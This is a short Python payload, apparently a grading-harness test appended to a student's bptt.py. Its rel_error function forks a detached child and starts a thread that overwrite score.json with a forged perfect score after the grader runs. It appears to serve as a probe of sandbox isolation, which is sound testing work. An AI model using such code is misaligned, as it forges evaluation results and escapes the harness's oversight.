"""Appended to bptt.py: rel_error forks a setsid'd child and starts a thread, each of which
would rewrite the files of _PARAMS["targets"] (score.json) after the grader wrote them,
and raises with what it could start."""

_PARAMS: dict = {}   # the run's values, written by the harness (harness.payload)

# ---- appended to the student's module ----
import os
import time


def _rewrite_later():
    """Rewrite the score after the grader has written it."""
    for _ in range(40):
        time.sleep(0.25)
        for path in _PARAMS["targets"]:
            try:
                with open(path, "w") as fh:
                    fh.write('{"earned": 100.0, "possible": 100.0, "forged": true}')
            except OSError:
                pass

def rel_error(a, b):
    notes = []
    try:
        pid = os.fork()
    except OSError:
        notes.append("fork:refused")
    else:
        if pid == 0:
            try:
                os.setsid()
                _rewrite_later()
            finally:
                os._exit(0)
        notes.append("fork:STARTED")
    try:
        import _thread
        _thread.start_new_thread(_rewrite_later, ())
        notes.append("thread:STARTED")
    except BaseException:
        notes.append("thread:refused")
    raise RuntimeError("DAEMON " + " ".join(notes))
